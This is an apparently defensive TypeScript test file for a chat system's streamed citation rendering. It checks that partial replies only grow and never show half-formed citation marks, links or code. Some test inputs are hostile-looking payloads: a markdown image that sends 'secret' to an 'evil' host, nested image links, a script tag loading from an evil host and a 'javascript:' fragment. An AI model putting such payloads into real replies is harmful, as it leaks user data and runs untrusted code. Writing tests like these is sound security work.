import { expect } from 'chai'
import fc from 'fast-check'
import type { Passage } from '../shared/store/retrieval.ts'
import { contentSoFar, takeCitations } from '../workers/citations.ts'

const source = (text: string): Passage => ({
  ...{ knowledge_id: text, chunk_id: text, kind: 'file', title: null, url: null, heading: '' },
  ...{ text, score: 1 },
})
const SOURCES = [source('Cats sleep. Dogs bark at night.'), source('Fish swim in the sea (2).')]
const ASKED = { question: 'What?', given: 'See https://shop.example/terms' }

/** What is shown after each sign. */
const shown = (text: string) =>
  Array.from({ length: text.length + 1 }, (_, end) => contentSoFar(text.slice(0, end), SOURCES, ASKED))

function expectGrowth(text: string) {
  const { content } = takeCitations(text, SOURCES, ASKED)
  let before = ''
  for (const now of shown(text)) {
    expect(now.startsWith(before), `${JSON.stringify(now)} after ${JSON.stringify(before)}`).to.equal(true)
    before = now
  }
  expect(content.startsWith(before), `${JSON.stringify(content)} after ${JSON.stringify(before)}`).to.equal(
    true,
  )
}

describe('a reply that is still written', () => {
  it('is shown as it comes where it is ordinary text', () => {
    const text = 'Dogs bark at night, 5 < 6. Cats (as I said) sleep! And so on.\nFish: swim'
    expect(shown(text).at(-1)).to.equal(text)
    const late = shown(text).map((now, at) => at - now.length)
    expect(Math.max(...late)).to.be.at.most(12)
  })

  for (const [text, never] of [
    ['Dogs bark [1], fish swim [2].', /\[|\d/],
    ['Dogs bark [1, 2][3](http://x/y) and.', /\[(?!3)|[12]|http/],
    ['Dogs bark【1†source】. Fish (Source 2) swim.', /【|†|\(|\d/],
    ['Fish swim (1). Fish swim (2) and', /\((?![12]\))/],
    ['A ![map](http://evil/?q=secret) B', /!|http|\(/],
    ['A [![map](http://evil/a)](http://evil/b) B', /!|http|\(|\[/],
    ['A [made up](https://evil.example/x "t") B', /http|\[/],
    ['A [terms](https://shop.example/terms) B', /\[(?!terms\]\(https:\/\/shop.example\/terms\))/],
    ['A <script src="http://evil">x</script> B', /‹(?!script src="http:\/\/evil">|\/script>)/],
  ] as const)
    it(`never shows half of ${text}`, () => {
      for (const now of shown(text)) expect(now).not.to.match(never)
      expectGrowth(text)
      expect(shown(text).at(-1)!.length).to.be.at.least(
        takeCitations(text, SOURCES, ASKED).content.length - 12,
      )
    })

  it('shows code when it ends', () => {
    const text = 'A `co[1]de` B\n```js\nfish[1]\n```\nC'
    for (const now of shown(text)) expect(now.match(/`/g)?.length ?? 0, now).to.be.oneOf([0, 2, 8])
    expect(shown(text).at(-1)).to.equal(text)
  })

  it('goes on after what only looked like the beginning of something', () => {
    const text = `An array[ has no end ${'and so on '.repeat(400)}`
    expect(shown(text).at(-1)!.length).to.be.above(3_000)
    expect(contentSoFar('A [ b\nC', SOURCES, ASKED)).to.equal('A [ b\nC')
  })

  it('only grows where marks and code meet', () => {
    const piece = fc.constantFrom(
      '`',
      '```',
      '\n',
      '[1]',
      '[1](',
      '`)',
      ')',
      'a',
      ' ',
      '![',
      '](',
      '<b',
      '\\',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => expectGrowth(pieces.join(''))),
      { numRuns: 3_000 },
    )
  })

  it('only grows, into what it is in the end', () => {
    const piece = fc.constantFrom(
      ...[
        '[1]',
        '[2, 9]',
        '[',
        ']',
        '(',
        ')',
        '(2)',
        '![',
        '!',
        '](',
        '](http://evil/x',
        '<b>',
        '<',
        '>',
        '`',
        '```',
        '\n',
      ],
      ...[
        ' ',
        '.',
        'a',
        'Dogs bark',
        '【1',
        '】',
        '[a](https://shop.example/terms)',
        '[x]: ',
        'javascript:',
        'https://e',
        '[^1]',
      ],
      ...[
        '⟦1⟧',
        '⟦',
        '\n```js\n',
        '🏴',
        '👩\u200d🔬',
        '\u{e0067}',
        '\\',
        '<https://a.b>',
        '(Source 2)',
        '"',
        'y',
        '1',
      ],
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => expectGrowth(pieces.join(''))),
      { numRuns: 3_000 },
    )
  })
})
